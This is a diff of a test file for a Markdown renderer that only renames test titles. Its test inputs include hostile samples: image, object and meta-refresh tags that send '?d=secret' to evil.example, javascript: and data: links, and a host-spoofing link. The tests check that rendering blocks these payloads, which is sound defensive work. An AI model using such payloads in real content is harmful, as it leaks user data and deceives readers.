@@ -6,7 +6,7 @@ import { Markdown } from './markdown.tsx';
 afterEach(cleanup);
 const shown = (text: string): HTMLElement => render(<Markdown text={text} />).container;
 
-test('Markdown is rendered as elements', () => {
+test('Markdown is rendered as HTML elements', () => {
   const page = shown(
     '**3 days** in *Lisbon* & `more`\n\n- **Day 1** · 09:30\n- Day 2\n\n1. one\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> said\n\n```\n<b>\n```',
   );
@@ -27,13 +27,13 @@ test.each([
   '<iframe src="https://evil.example"></iframe>',
   '- <svg onload=x>',
   '<style>* { display: none }</style>',
-])('raw HTML stays text: %s', (text) => {
+])('Markdown shows raw HTML as text: %s', (text) => {
   const page = shown(text);
   expect(page.querySelector('img, b, script, iframe, svg, style')).toBeNull();
   expect(page.textContent).toContain('<');
 });
 
-test('a picture becomes a link and is never fetched', () => {
+test('image in Markdown becomes a link with its host and is not fetched', () => {
   const page = shown('![a view](https://pictures.example/a.png)');
   expect(page.querySelector('img')).toBeNull();
   expect(page.textContent).toBe('a view (pictures.example)');
@@ -52,13 +52,13 @@ test.each([
   '<object data="https://evil.example/?d=secret"></object>',
   '<meta http-equiv="refresh" content="0;url=https://evil.example/?d=secret">',
   '| ![x](https://evil.example/?d=secret) |\n|---|\n| ![y](//evil.example/?d=secret) |',
-])('%s sends no request, and its link shows the host', (text) => {
+])('Markdown %s sends no request, and any link in it shows its host', (text) => {
   const page = shown(text);
   expect(page.querySelector('img, picture, source, link, video, object, meta, iframe, [style], [srcset], [src]')).toBeNull();
   for (const link of page.querySelectorAll('a')) expect(link.parentElement?.textContent).toContain('evil.example');
 });
 
-test('an external link shows its host, a link within the product does not', () => {
+test('Markdown link to another site shows its host, a link within the product does not', () => {
   const page = shown('[Book here](https://evil.example/bank) and https://lisbon.example/a and [help](/help)');
   expect(page.textContent).toBe('Book here (evil.example) and https://lisbon.example/a and help');
   const [outside, , inside] = page.querySelectorAll('a');
@@ -68,12 +68,12 @@ test('an external link shows its host, a link within the product does not', () =
 });
 
 test.each(['bank.example', '**bank.example**', 'https://bank.example/login', '![bank.exam](https://bank.exam/)ple'])(
-  'a link whose text is another host, %s, shows its real host',
+  'Markdown link whose text is another host, %s, shows its real host',
   (words) => expect(shown(`[${words}](https://bank.exam/)`).textContent).toMatch(/\(bank\.exam\)$/),
 );
 
 test.each(['[a](javascript:alert(1))', '[a](data:text/html,x)', '[a](vbscript:x)', '[lisbon.example](https://lisbon.example@evil.example)'])(
-  '%s does not become a link',
+  'Markdown %s does not become a link',
   (text) => {
     expect(shown(text).querySelector('a')).toBeNull();
   },
